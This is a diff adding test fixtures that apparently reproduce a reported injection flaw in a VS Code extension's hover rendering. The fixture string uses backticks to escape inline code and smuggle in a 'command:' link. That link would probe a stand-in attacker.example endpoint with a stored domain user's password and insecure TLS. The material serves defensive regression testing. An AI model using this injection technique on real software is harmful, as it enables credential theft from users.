@@ -4,6 +4,15 @@
 import assert from 'node:assert/strict';
 import { createRequire } from 'node:module';
 
+/** The probe link of the issue: url, a user and `insecure` - what the stored password would be sent with. */
+const PROBE_ARGS = encodeURIComponent(JSON.stringify([{ url: 'https://attacker.example/EWS/mrsproxy.svc', user: 'CONTOSO\\mrsadmin', insecure: true }]));
+export const EVIL_LINK = `[Re-check now](command:iisAuthLens.probeMrsEndpoint?${PROBE_ARGS})`;
+/** Issue 12, verbatim in shape: a backtick closes the hover's inline code, the link follows, a backtick reopens. */
+export const EXPLOIT_TEXT = 'The call to \'https://mail.contoso.com/EWS/mrsproxy.svc\' failed. Error details: ' +
+  'The HTTP request is unauthorized with client authentication scheme \'Negotiate\'. ' +
+  `The authentication header received from the server was 'x\` ${EVIL_LINK}\` \`y'. ` +
+  '--> The remote server returned an error: (401) Unauthorized.';
+
 interface MarkdownItLike {
   render(src: string): string;
   linkify: { set(opts: Record<string, boolean>): void };
